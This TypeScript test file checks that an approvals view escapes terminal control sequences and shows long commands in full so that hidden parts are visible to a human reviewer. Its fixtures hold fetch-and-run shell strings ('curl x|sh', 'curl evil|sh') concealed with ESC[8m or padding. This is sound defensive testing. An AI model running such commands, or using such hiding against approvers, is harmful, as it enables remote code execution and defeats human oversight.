import { describe, expect, it } from 'vitest';
import { hasUnsafeChars, type ExecApproval } from '@tether/protocol';
import { approvalsListView, resolvedView } from './approvals-view.js';

const HIDDEN = ['sh', '-c', 'uname -a\x1b[8m; curl x|sh\x1b[0m'];

function approval(extra: Partial<ExecApproval> = {}): ExecApproval {
  return { id: 'abcdef0123', nodeId: 'n'.repeat(64), displayName: 'ask-node', command: 'system.run', argv: HIDDEN, cwd: '/tmp', resolvedPath: '/bin/sh', createdAtMs: 0, expiresAtMs: 60_000, ...extra };
}

describe('approvalsListView', () => {
  it('shows the part of argv that ESC[8m would hide, quoted so it can be pasted', () => {
    const lines = approvalsListView([approval({ displayName: 'n\x1b[2K', cwd: '/tmp/\r' })], 0);
    for (const line of lines) expect(hasUnsafeChars(line)).toBe(false);
    expect(lines[1]).toContain("sh -c $'uname -a\\x1b[8m; curl x|sh\\x1b[0m'");
    expect(lines[1]).toContain('n\\x1b[2K');
    expect(lines[1]).toContain('/tmp/\\x0d');
  });

  it('never shortens a long command', () => {
    const argv = ['sh', '-c', `${'true; '.repeat(100)}curl evil|sh`];
    expect(approvalsListView([approval({ argv })], 0)[1]).toContain('curl evil|sh');
  });
});

describe('resolvedView', () => {
  it('escapes argv, node name and the allowlisted path', () => {
    const lines = resolvedView({ ...approval({ resolvedPath: '/bin/\x1b[8msh' }), decision: 'allow-always', resolvedAtMs: 1 });
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(hasUnsafeChars(line)).toBe(false);
    expect(lines[0]).toContain("$'uname -a\\x1b[8m; curl x|sh\\x1b[0m'");
    expect(lines[1]).toContain('/bin/\\x1b[8msh');
  });
});
